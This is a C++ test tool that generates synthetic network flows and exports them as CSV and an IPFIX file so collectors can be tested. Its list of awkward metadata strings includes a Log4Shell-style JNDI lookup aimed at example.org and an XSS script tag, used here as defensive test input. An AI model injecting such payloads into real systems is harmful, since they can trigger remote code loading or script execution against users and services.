// Writes the same synthetic flows as CSV and as an IPFIX file (RFC 5655), for collectors to read.
//
//     ipfix_exporter DIRECTORY [KEY=VALUE]...
//
// makes flows.csv and flows.ipfix there. Keys: profile, vocabulary, biflow, accounting, unit (by
// number, in the order of their enumerators), flows, message_size, extension (1: with columns of
// one). Exit status 0, or 1 with a reason.
#include "core/record/column.h"
#include "export/ipfix/ipfix_encoder.h"
#include "export/ipfix/ipfix_session.h"
#include "export/text/csv_encoder.h"
#include "tests/support/fake_part.h"
#include "tests/support/made_record.h"
#include "tests/support/plain_packet.h"

#include <array>
#include <chrono>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <map>
#include <memory>
#include <random>
#include <string>
#include <vector>

namespace flowgauge::test {
namespace {

using Settings = std::map<std::string, unsigned>;

MeterOptions meter_of(Settings& settings) {
    MeterOptions meter;
    meter.statistical_analysis = true;
    meter.splt_analysis = 8;
    meter.layer_octets = true;
    meter.flow.accounting_mode = static_cast<AccountingMode>(settings["accounting"]);
    meter.flow.time_unit = static_cast<TimeUnit>(settings["unit"]);
    meter.extension = settings["extension"] == 0 ? nullptr : fake_extension();
    return meter;
}

IpfixOptions ipfix_of(Settings& settings) {
    IpfixOptions options;
    options.profile = static_cast<IpfixProfile>(settings["profile"]);
    options.vocabulary = static_cast<IpfixVocabulary>(settings["vocabulary"]);
    options.biflow = static_cast<IpfixBiflow>(settings["biflow"]);
    options.message_size = settings["message_size"];
    const auto interfaces = std::make_shared<InterfaceTable>(1);
    const std::array<std::uint32_t, 1> worker{0};
    interfaces->set(worker, 0, {.index = 3, .name = "eth0", .description = "uplink"});
    options.interfaces = interfaces;
    return options;
}

// As many as nDPI has, so that they fill many messages.
std::shared_ptr<const ApplicationNames> names() {
    std::vector<std::string> protocols{"Unknown", "TLS", "HTTP", "Google", "DNS"};
    while (protocols.size() < 300) {
        protocols.push_back("Protocol" + std::to_string(protocols.size()));
    }
    return std::make_shared<const ApplicationNames>(
        std::move(protocols),
        std::vector<std::string>{"Unspecified", "Web", "Network"},
        std::vector<std::string>{"", "XSS", "SQL Injection"}
    );
}

// Text that formats and collectors stumble over.
const std::vector<std::string>& hostile_texts() {
    static const std::vector<std::string> kTexts{
        "www.example.org",
        "",
        "with \"quotes\", commas, and \\backslashes\\",
        "line\nbreak\tand tab",
        "m\xc3\xbcnchen.example \xe6\x97\xa5\xe6\x9c\xac \xf0\x9f\x98\x80",
        std::string(254, 'a'),
        std::string(255, 'b'),
        "${jndi:ldap://example.org/x}",
        "<script>alert(1)</script>"};
    return kTexts;
}

class Flows {
public:
    explicit Flows(const MeterOptions& meter)
        : meter_(meter),
          scale_(ticks_per_second(meter.flow.time_unit) / 1000) {}

    // One of IPv4 or IPv6, TCP or UDP, of one direction or both.
    [[nodiscard]] std::unique_ptr<MadeRecord> next() {
        const bool six = number_ % 3 == 1;
        const bool tcp = number_ % 4 != 2;
        const bool one_way = number_ % 5 == 3;
        const std::string host =
            std::to_string(number_ / 200) + "." + std::to_string(number_ % 200);
        const std::string port = std::to_string(1024 + number_);
        std::string client =
            six ? "[2001:db8::" + std::to_string(number_ + 1) + "]" : "10.1." + host;
        std::string server = six ? "[2001:db8:1::53]" : "10.2.0.53";
        if (number_ % 7 == 6) {
            std::swap(client, server);
        }
        client += ":" + port;
        server += tcp ? ":443" : ":53";
        std::vector<Packet> packets;
        const unsigned count = 1 + below(11);
        for (unsigned i = 0; i < count; ++i) {
            now_ += scale_ * static_cast<Tick>(below(50)) + (scale_ > 1 ? 137 : 0);
            packets.push_back(packet(tcp, one_way || i % 2 == 0, client, server, i));
        }
        auto made = std::make_unique<MadeRecord>(meter_, packets);
        made->record().end_reason = static_cast<EndReason>(number_ % 6);
        describe(*made, tcp);
        ++number_;
        return made;
    }

private:
    [[nodiscard]] unsigned below(unsigned bound) {
        return static_cast<unsigned>(random_() % bound);
    }

    Packet packet(
        bool tcp, bool forward, const std::string& client, const std::string& server, unsigned i
    ) {
        const std::string& from = forward ? client : server;
        const std::string& to = forward ? server : client;
        const PacketOptions options{
            .tick = now_,
            .bytes = 80 + below(1400),
            .vlan_id = static_cast<std::uint16_t>(number_ % 9 == 8 ? 100 : 0),
            .tcp_flags = static_cast<std::uint8_t>(tcp ? (i < 2 ? 0x02 : 0x18) : 0)};
        return tcp ? tcp_packet(from, to, options) : udp_packet(from, to, options);
    }

    void describe(MadeRecord& record, bool tcp) const {
        Application& application = record.application();
        application.master = tcp ? static_cast<std::uint16_t>(1 + number_ % 2) : 0;
        application.app = tcp ? 3 : 4;
        application.category = tcp ? 1 : 2;
        application.confidence = Confidence::kDissected;
        application.risks = number_ % 4 == 0 ? 6 : 0;
        application.metadata = std::make_unique<ApplicationMetadata>();
        const auto& texts = hostile_texts();
        application.metadata->requested_server_name = texts[number_ % texts.size()];
        application.metadata->user_agent = texts[(number_ + 1) % texts.size()];
        application.metadata->alpn = tcp ? "h2,http/1.1" : "";
    }

    MeterOptions meter_;
    Tick scale_;
    Tick now_ = 1'700'000'000'000 * scale_;
    unsigned number_ = 0;
    std::mt19937 random_{1};
};

class FileMessages final : public WireMessages {
public:
    explicit FileMessages(const std::string& path) : out_(path, std::ios::binary) {}
    void add(std::string_view message) override {
        out_.write(message.data(), static_cast<std::streamsize>(message.size()));
    }

private:
    std::ofstream out_;
};

int run(const std::string& directory, Settings& settings) {
    const MeterOptions meter = meter_of(settings);
    const RecordContext context = context_of(meter, names());
    const IpfixOptions ipfix = ipfix_of(settings);
    auto opened = IpfixEncoder::open(ipfix, meter, names());
    if (!opened) {
        std::cerr << opened.error().message << '\n';
        return 1;
    }
    IpfixEncoder& encoder = *opened.value();
    CsvEncoder csv(
        CsvDialect::kRfc4180, select_columns("all", meter).value(), meter.flow.time_unit
    );
    const auto preamble = make_preamble(encoder.preamble());
    Block rows;
    Block messages;
    Flows flows(meter);
    rows.bytes = csv.preamble();
    for (unsigned i = 0; i < settings["flows"]; ++i) {
        const auto record = flows.next();
        const RecordView view = record->view(context, i);
        if (!csv.encode(view, rows) || !encoder.encode(view, messages)) {
            std::cerr << "flow " << i << " was refused\n";
            return 1;
        }
    }
    encoder.end_unit(messages);

    IpfixSessionOptions options;
    options.clock = [] {
        return 1'700'000'600U;
    };
    options.statistics = [&] {
        return ExporterStatistics{
            .observed_flows = messages.records, .ignored_packets = 7, .not_sent_flows = 0};
    };
    options.interfaces = ipfix.interfaces;
    IpfixSession session(options);
    session.begin(false);
    FileMessages file(directory + "/flows.ipfix");
    session.prepare(preamble.get(), SteadyTime(std::chrono::hours(1)), file);
    for (std::size_t i = 0; i < messages.units.size(); ++i) {
        session.put(messages.unit(i), messages.units[i].records, file);
    }
    std::ofstream(directory + "/flows.csv", std::ios::binary) << rows.bytes;
    return 0;
}

}  // namespace
}  // namespace flowgauge::test

int main(int argc, char** argv) {
    if (argc < 2) {
        std::cerr << "usage: ipfix_exporter DIRECTORY [KEY=VALUE]...\n";
        return 1;
    }
    std::map<std::string, unsigned> settings{
        {"profile", 2},
        {"vocabulary", 0},
        {"biflow", 0},
        {"accounting", 1},
        {"unit", 0},
        {"flows", 500},
        {"message_size", 1400},
        {"extension", 0}};
    for (int i = 2; i < argc; ++i) {
        const std::string argument = argv[i];
        const std::size_t equals = argument.find('=');
        const std::string key = argument.substr(0, equals);
        if (equals == std::string::npos || !settings.contains(key)) {
            std::cerr << "no setting: " << argument << '\n';
            return 1;
        }
        settings[key] =
            static_cast<unsigned>(std::strtoul(argument.c_str() + equals + 1, nullptr, 10));
    }
    return flowgauge::test::run(argv[1], settings);
}
